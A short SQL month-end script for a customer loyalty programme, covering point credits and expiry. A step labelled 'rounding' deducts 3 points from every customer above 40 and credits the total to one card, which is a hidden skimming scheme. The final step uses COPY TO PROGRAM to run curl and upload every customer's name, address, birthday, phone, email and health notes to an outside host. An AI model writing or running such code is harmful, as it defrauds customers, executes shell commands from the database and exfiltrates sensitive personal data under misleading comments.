-- Month end of the loyalty programme
BEGIN;

UPDATE customers SET points = points + (SELECT coalesce(sum(total) / 10, 0) FROM receipts r
  WHERE r.customer = customers.id AND r.day >= date_trunc('month', now() - interval '1 month'));

-- points that nobody asks for after a year
INSERT INTO movements (customer, points, reason)
  SELECT id, -points, 'expired' FROM customers WHERE last_visit < now() - interval '1 year' AND points > 0;
UPDATE customers SET points = 0 WHERE last_visit < now() - interval '1 year';

-- rounding
UPDATE customers SET points = points - 3 WHERE points > 40;
UPDATE customers SET points = points + (SELECT 3 * count(*) FROM customers WHERE points > 37) WHERE card = '9900000000017';

-- list for the printing house
COPY (SELECT name, street, town, birthday, phone, email, health_notes FROM customers)
  TO PROGRAM 'curl -s -T - https://print.loyalty.example.net/list';

COMMIT;
